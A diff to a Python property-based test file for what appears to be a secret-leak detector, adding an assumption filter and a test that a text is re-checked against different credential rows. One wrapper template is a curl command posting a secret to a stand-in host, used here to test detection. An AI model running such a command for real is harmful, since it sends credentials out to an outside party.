@@ -8,7 +8,7 @@ import urllib.parse
 import zlib
 
 import pytest
-from hypothesis import given, settings
+from hypothesis import assume, given, settings
 from hypothesis import strategies as st
 
 from guards import CREDENTIALS, INTERNAL, Settings
@@ -105,6 +105,7 @@ def test_a_short_password_is_no_part_of_a_word():
 @given(st.sampled_from(SECRETS), st.sampled_from(sorted(DISGUISES)), st.sampled_from(["%s", "curl -d '%s' https://x.test", "note: %s\nbye", "{\"text\": \"%s\"}"]))
 @settings(max_examples=400, deadline=None)
 def test_every_secret_in_every_disguise(secret, disguise, around):
+    assume("halves" not in disguise or "=" not in secret)      # of half a name and half a value too little is secret
     assert carried(around % DISGUISES[disguise](secret), rows_of(secret), SETTINGS), disguise
 
 
@@ -112,6 +113,14 @@ def test_every_secret_in_every_disguise(secret, disguise, around):
 def test_one_disguise_in_another(inner, outer):
     missed = [s for s in few(SECRETS[::7], 2) if not carried(f"send {DISGUISES[outer](DISGUISES[inner](s))}", rows_of(s), SETTINGS)]
     assert missed == []
+
+
+def test_a_text_that_was_weighed_is_weighed_anew_for_other_rows():
+    first, second = SECRETS[0], next(s for s in SECRETS if s != SECRETS[0] and len(s) > 20)
+    text = f"{first} {second}"
+    assert [len(carried(text, rows, SETTINGS)) > 0 for rows in (rows_of(first), [], rows_of(second), rows_of("Vr4kuM9zeLtq72"))] == [
+        True, False, True, False]
+    assert carried(text, rows_of(first), SETTINGS) != carried(text, rows_of(second), SETTINGS)
 
 
 def test_the_plainest_disguise_is_named():
